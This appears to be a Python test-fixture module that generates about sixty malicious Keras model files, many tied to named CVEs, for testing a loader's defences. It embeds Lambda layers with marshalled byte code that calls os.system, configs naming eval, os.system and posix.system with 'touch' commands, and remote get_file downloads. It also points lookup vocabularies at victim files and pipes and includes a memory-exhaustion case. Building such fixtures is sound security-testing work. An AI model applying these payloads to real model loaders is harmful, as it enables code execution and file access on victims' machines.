"""Files that name a function, code, or another file, where a layer should be."""

import base64
import marshal
from typing import Any

from tools.torture.hostile.making import (
    Change,
    Config,
    Make,
    Place,
    become,
    function,
    h5_file,
    keras_file,
    layers,
    object_of,
    setting,
)

SCALING, FIRST = 1, 2
NAME = {"name": "scaling"}


def _code() -> str:
    """Byte code that makes the file `owned` in the working folder, as Keras keeps it."""

    def spring(x: Any) -> Any:
        __import__("os").system("touch owned")
        return x

    return base64.b64encode(marshal.dumps(spring.__code__)).decode()


LAMBDA_CODE = {"class_name": "__lambda__", "config": {"code": _code(), "defaults": None, "closure": None}}
UNSAFE = function("keras.config", "enable_unsafe_deserialization")
SAVED = {"path": "<victim>", "x": [[[0.0, 0.0, 0.0]]]}


def _lambda(named: Config, **more: Any) -> Config:
    return object_of("keras.layers", "Lambda", NAME | {"function": named} | more)


def _argument(value: Any) -> Change:
    return lambda config, place: layers(config)[FIRST]["inbound_nodes"][0]["kwargs"].update(mask=value)


def _call_on(*args: Any) -> list[Config]:
    return [{"args": list(args), "kwargs": {}}]


def _compiled(config: Config, place: Place) -> None:
    config["compile_config"] = {
        "optimizer": object_of("keras.optimizers", "Adam", {"learning_rate": LAMBDA_CODE}),
        "loss": function("os", "system"),
        "metrics": [object_of("keras.utils", "get_file", {"origin": place.url, "fname": "x"})],
    }


def _trained_with(config: Config, place: Place) -> None:
    for name in ("kernel_initializer", "kernel_regularizer", "kernel_constraint", "activity_regularizer"):
        layers(config)[FIRST]["config"][name] = function("builtins", "eval")


def _two_steps(config: Config, place: Place) -> None:
    become(SCALING, object_of("keras.config", "enable_unsafe_deserialization"))(config, place)
    become(FIRST, object_of("keras.layers", "Lambda", {"name": "first", "function": LAMBDA_CODE}))(
        config, place
    )


def _shared(config: Config, place: Place) -> None:
    layers(config)[SCALING]["shared_object_id"] = 7
    layers(config)[FIRST] = _lambda(LAMBDA_CODE) | {
        "shared_object_id": 7,
        "name": "first",
        "inbound_nodes": layers(config)[FIRST]["inbound_nodes"],
    }


def _without_module(config: Config, place: Place) -> None:
    become(SCALING, object_of("x", "deserialize", {"config": LAMBDA_CODE}))(config, place)
    del layers(config)[SCALING]["module"]


def _registered(config: Config, place: Place) -> None:
    layers(config)[SCALING]["registered_name"] = "theirs>Spring"


BOTH: dict[str, Change] = {
    "Lambda with byte code (CVE-2024-3660, CVE-2025-9905)": become(SCALING, _lambda(LAMBDA_CODE)),
    "Lambda that names set_floatx by its path": become(
        SCALING, _lambda(function("keras.config", "set_floatx"), arguments={"value": "float16"})
    ),
    "Lambda that names os.system (CVE-2025-1550)": become(
        SCALING, _lambda(function("os", "system"), arguments={"command": "touch <marker>"})
    ),
    "Lambda that loads a model unsafely (CVE-2025-9906)": become(
        SCALING, _lambda(function("keras.models", "load_model"), arguments={"safe_mode": False})
    ),
    "Lambda that downloads a network": become(
        SCALING, _lambda(function("keras.applications", "ResNet50"), arguments={"weights": "<url>"})
    ),
    "module keras, class layers.Lambda": become(
        SCALING, object_of("keras", "layers.Lambda", NAME | {"function": LAMBDA_CODE})
    ),
    "Lambda from Keras's inside": become(
        SCALING, object_of("keras.src.layers.core.lambda_layer", "Lambda", NAME | {"function": LAMBDA_CODE})
    ),
    "save_img as a layer, over a file": become(
        SCALING, object_of("keras.preprocessing.image", "save_img", SAVED)
    ),
    "utils.save_img as a layer": become(SCALING, object_of("keras.utils", "save_img", SAVED)),
    "module keras, class utils.save_img": become(SCALING, object_of("keras", "utils.save_img", SAVED)),
    "get_file as a layer (CVE-2025-8747, CVE-2025-12060)": become(
        SCALING,
        object_of("keras.utils", "get_file", {"origin": "<url>", "fname": "<marker>", "extract": True}),
    ),
    "enable_unsafe_deserialization, then a Lambda (CVE-2025-9906)": _two_steps,
    "set_floatx as a layer": become(SCALING, object_of("keras.config", "set_floatx", {"value": "float16"})),
    "set_image_data_format as a layer": become(
        SCALING, object_of("keras.config", "set_image_data_format", {"data_format": "channels_first"})
    ),
    "an application with downloaded weights": become(
        SCALING, object_of("keras.applications", "ResNet50", {"weights": "imagenet"})
    ),
    "a data set as a layer": become(
        SCALING, object_of("keras.datasets.mnist", "load_data", {"path": "<url>"})
    ),
    "TFSMLayer (CVE-2026-1462)": become(
        SCALING, object_of("keras.layers", "TFSMLayer", NAME | {"filepath": "<victim>"})
    ),
    "TorchModuleWrapper": become(
        SCALING, object_of("keras.layers", "TorchModuleWrapper", NAME | {"module": "gASV"})
    ),
    "JaxLayer": become(SCALING, object_of("keras.layers", "JaxLayer", NAME | {"call_fn": LAMBDA_CODE})),
    "FlaxLayer": become(SCALING, object_of("keras.layers", "FlaxLayer", NAME)),
    "a layer of Keras Hub": become(SCALING, object_of("keras_hub.layers", "Backbone", {"handle": "<url>"})),
    "a layer of TensorFlow Hub": become(
        SCALING, object_of("tensorflow_hub.keras_layer", "KerasLayer", NAME | {"handle": "<url>"})
    ),
    "StringLookup with a file (CVE-2025-12058)": become(
        SCALING, object_of("keras.layers", "StringLookup", NAME | {"vocabulary": "<victim>"})
    ),
    "StringLookup with an address (CVE-2025-12058)": become(
        SCALING, object_of("keras.layers", "StringLookup", NAME | {"vocabulary": "<url>"})
    ),
    "IntegerLookup with a pipe": become(
        SCALING, object_of("keras.layers", "IntegerLookup", NAME | {"vocabulary": "<pipe>"})
    ),
    "TextVectorization with a file (CVE-2025-12058)": become(
        SCALING, object_of("keras.layers", "TextVectorization", NAME | {"vocabulary": "<victim>"})
    ),
    "IndexLookup from Keras's inside": become(
        SCALING,
        object_of(
            "keras.src.layers.preprocessing.index_lookup", "IndexLookup", NAME | {"vocabulary": "<victim>"}
        ),
    ),
    "StringLookup in a Pipeline": become(
        SCALING,
        object_of(
            "keras.layers",
            "Pipeline",
            NAME | {"layers": [object_of("keras.layers", "StringLookup", {"vocabulary": "<victim>"})]},
        ),
    ),
    "FeatureSpace": become(SCALING, object_of("keras.utils", "FeatureSpace", NAME | {"features": {}})),
    "Lambda in TimeDistributed": become(
        SCALING, object_of("keras.layers", "TimeDistributed", NAME | {"layer": _lambda(LAMBDA_CODE)})
    ),
    "Lambda in Bidirectional": become(
        SCALING, object_of("keras.layers", "Bidirectional", NAME | {"layer": _lambda(LAMBDA_CODE)})
    ),
    "Lambda as a cell of an RNN": become(
        SCALING, object_of("keras.layers", "RNN", NAME | {"cell": _lambda(LAMBDA_CODE)})
    ),
    "a function of Keras as activation": setting(FIRST, activation=function("keras.config", "set_floatx")),
    "a function of activations that is none": setting(FIRST, activation=function("keras.activations", "get")),
    "a name that is none as activation": setting(FIRST, activation="deserialize"),
    "a function of Python as activation": setting(FIRST, activation=function("builtins", "eval")),
    "a function of another module as activation": setting(FIRST, activation=function("os", "system")),
    "byte code as activation": setting(FIRST, activation=LAMBDA_CODE),
    "TFSMLayer as activation": setting(
        FIRST, activation=object_of("keras.layers", "TFSMLayer", {"filepath": "<victim>"})
    ),
    "a function as padding": setting(FIRST, padding=function("keras.activations", "relu")),
    "functions as initialiser, regulariser, constraint": _trained_with,
    "a function as type of numbers": setting(FIRST, dtype=function("keras.config", "set_floatx")),
    "a policy that is none": setting(
        FIRST, dtype=object_of("keras.dtype_policies", "deserialize", {"config": LAMBDA_CODE})
    ),
    "a policy of quantisation": setting(
        FIRST, dtype=object_of("keras.dtype_policies", "QuantizedDTypePolicy", {"mode": "int8"})
    ),
    "a quantiser": setting(FIRST, quantization_config=object_of("keras.quantizers", "AbsMaxQuantizer", {})),
    "code in the loss, the metrics and the optimiser": _compiled,
    "a function as an argument of a call": _argument(function("keras.activations", "relu")),
    "byte code as an argument of a call": _argument(LAMBDA_CODE),
    "a type of TensorFlow as an argument": _argument(
        {
            "class_name": "__typespec__",
            "spec_name": "TensorSpec",
            "module": "tf",
            "config": [],
            "registered_name": None,
        }
    ),
    "values of an unknown type": _argument(
        {"class_name": "__numpy__", "config": {"value": [0] * 9, "dtype": "V500000000"}}
    ),
    "a call on no tensor": become(
        SCALING,
        object_of(
            "keras.src.ops.numpy",
            "Repeat",
            {"repeats": 10**9},
            inbound_nodes=_call_on(
                {"class_name": "__numpy__", "config": {"value": [1.0], "dtype": "float32"}}
            ),
        ),
    ),
    "the registered name of another's class": _registered,
    "a shared object's number": _shared,
    "no module, a function as class": _without_module,
    "a class that is a list": become(SCALING, object_of("keras.layers", ["Lambda"])),
    "a class that is nothing": become(SCALING, object_of("keras.layers", None)),
    "a module of the system": become(SCALING, object_of("posix", "system", {"command": "touch <marker>"})),
    "a class of Python": become(SCALING, object_of("builtins", "open", {"file": "<marker>", "mode": "w"})),
    "a class by a dotted path": become(SCALING, object_of("keras.src", "utils.file_utils.get_file", {})),
    "an object in build_config": lambda config, place: layers(config)[FIRST].update(
        build_config={"input_shape": _lambda(LAMBDA_CODE)}
    ),
    "a subclass of Model": become(SCALING, object_of("keras.src.models.cloning", "clone_model", {})),
    **{
        f"the operation {name}": become(
            SCALING,
            object_of(
                "keras.src.ops.core", name, {}, inbound_nodes=_call_on(function("keras.config", "set_floatx"))
            ),
        )
        for name in ("Map", "Scan", "Cond", "WhileLoop", "ForiLoop", "VectorizedMap", "Switch")
    },
}
CASES: dict[str, Make] = {
    **{name: keras_file(change) for name, change in BOTH.items()},
    **{f"{name}, .h5": h5_file(change) for name, change in BOTH.items()},
}
